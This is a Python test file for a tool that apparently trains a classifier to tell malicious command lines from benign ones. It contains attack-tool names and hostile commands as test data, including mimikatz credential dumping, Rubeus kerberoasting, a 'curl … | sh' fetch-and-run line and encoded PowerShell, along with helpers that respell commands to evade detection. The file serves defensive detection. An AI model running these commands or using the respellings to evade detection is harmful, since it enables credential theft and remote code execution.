"""``tools.train.known_lines`` and its lists: an alarm group on a column of its own, the head before as it was, and other spellings."""

from __future__ import annotations

import random
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

for needed in ("torch", "pandas", "numba"):
    pytest.importorskip(needed)

import pandas as pd  # noqa: E402

from edge_demist.format import safetensors  # noqa: E402
from edge_demist.format.specialist import read_specialist  # noqa: E402
from tools.synth import cmdline_known  # noqa: E402
from tools.synth.cmdline_slots import SLOTS  # noqa: E402
from tools.synth.evasion import spelled_commands  # noqa: E402
from tools.synth.templates import fill, unfilled  # noqa: E402
from tools.train import bagged, known_lines, mixtures  # noqa: E402
from tools.train.labels import without_label_group  # noqa: E402


def test_the_lists_are_filled_and_even():
    rows = cmdline_known.generate(random.Random(3), 3000)
    assert not [text for text, *_ in rows if unfilled(text, SLOTS)]
    assert sum(label == "malicious" for _, label, _ in rows) == 1500
    assert len({text for text, *_ in rows}) > 2400


def test_bars_and_angle_brackets_within_forms():
    made = {fill(random.Random(seed), "a <b ¦ c|d ›› e>", {}) for seed in range(20)}
    assert made == {"a b | c", "a d >> e"}


@pytest.mark.parametrize(
    ("line", "told"),
    [("mimikatz", True), (r"C:\x\Rubeus.exe kerberoast", True), ("./chisel client", True), ("notepad.exe mimi.txt", False), ("", False)],
)
def test_tools_of_attackers(line, told):
    assert cmdline_known.is_attack_tool(line) == told


@given(st.integers(0, 10**6), st.sampled_from([text for text, *_ in cmdline_known.generate(random.Random(4), 200)]))
def test_a_spelling_changes_letters_of_case_or_whole_words_and_says_none_where_it_changes_nothing(seed, line):
    other = spelled_commands.spelled(random.Random(seed), line)
    assert other != line and other != ""
    for change in (spelled_commands.capitals_of_programs, spelled_commands.capitals_of_words):
        assert change(random.Random(seed), line).lower() == line.lower()
    assert spelled_commands.dashes(random.Random(seed), line).replace("-", "/") == line.replace("-", "/")


def test_words_are_known_by_other_names():
    rng = random.Random(1)
    assert {spelled_commands.aliases(rng, "iex (iwr x)") for _ in range(60)} >= {"Invoke-Expression (curl x)", "iex (iwr x)"}
    assert any("-EncodedCommand" in spelled_commands.powershell_options(rng, "powershell -enc AAAA") for _ in range(40))
    assert any("--silent" in spelled_commands.unix_options(rng, "curl -s http://a/ | sh") for _ in range(40))
    assert spelled_commands.unix_options(rng, "grep -s x") == "grep -s x"


@pytest.mark.parametrize("word", ["AAAAABBBB", "hidden"])
def test_base64_keeps_its_case(word):
    assert all(spelled_commands.capitals_of_words(random.Random(seed), "SQBFAFgAaQ") == "SQBFAFgAaQ" for seed in range(9))
    assert any(spelled_commands.capitals_of_words(random.Random(seed), word) != word for seed in range(30))


def test_an_alarm_group_on_a_column_of_its_own_beside_the_head_before(tmp_path: Path, monkeypatch, model):
    hostile = [f"mimikatz.exe sekurlsa::logonpasswords run{i}" for i in range(40)]
    harmless = [f"notepad.exe C:\\notes\\file{i}.txt" for i in range(40)]
    rows = [(text, "malicious") for text in hostile] + [(text, "benign") for text in harmless]
    table = pd.DataFrame(rows, columns=["text", "label"]).assign(platform="windows", source="made for this test")
    (tmp_path / "tasks" / "cmdline").mkdir(parents=True)
    for name, part_of in (("train", table[::2]), ("dev", table[1::2])):
        part_of.to_parquet(tmp_path / "tasks" / "cmdline" / f"{name}.parquet")
    lines = pd.DataFrame({"text": [f"copy a{i} b{i}" for i in range(1200)], "label": "benign", "source": "made for this test"})
    lines[:9].to_parquet(tmp_path / "more")
    lines.to_parquet(tmp_path / "ordinary")
    monkeypatch.setattr(bagged, "MADE", dict.fromkeys(bagged.MADE, 20))
    monkeypatch.setitem(mixtures.GENERATED, "cmdline", 40)
    monkeypatch.setattr(mixtures, "CLASSIC", 20)
    monkeypatch.setattr(known_lines, "LINES", 60)
    monkeypatch.setattr(known_lines, "MEMBERS", known_lines.MEMBERS[:1])
    args = ["--data", str(tmp_path), "--more", str(tmp_path / "more"), "--ordinary", str(tmp_path / "ordinary"), "--out", str(tmp_path)]
    assert known_lines.main(args) == 0
    old = without_label_group(model.specialist("cmdline"))
    made = {part: read_specialist(model.bundle, tmp_path / part / "cmdline.safetensors", "cmdline") for part in ("alarms", "labels")}
    tables = [safetensors.read(tmp_path / part / "cmdline.safetensors")[1]["ngrams.weight"] for part in made]
    assert np.array_equal(*tables) and np.array_equal(tables[0][:, 0], old.ngrams.weight[:, 0])
    assert np.array_equal(made["labels"].weight, old.weight) and np.array_equal(made["labels"].ngram_weight, old.ngram_weight)
    assert np.flatnonzero(made["alarms"].ngram_weight.any(axis=1)).tolist() == [known_lines.COLUMN]
    assert not any(one.label_subclasses or one.screen for one in made.values())


def test_members_see_parts_that_there_are():
    known = {"table", "more", "known", "known-ordinary", "spelled", *bagged.MADE}
    known |= {f"{kind}{i}" for kind in ("made", "changed") for i in range(bagged.ROUNDS)}
    members = (*known_lines.MEMBERS, known_lines.ON_VECTORS)
    assert {name for member in members for name in (*member.weights, *member.margins)} <= known
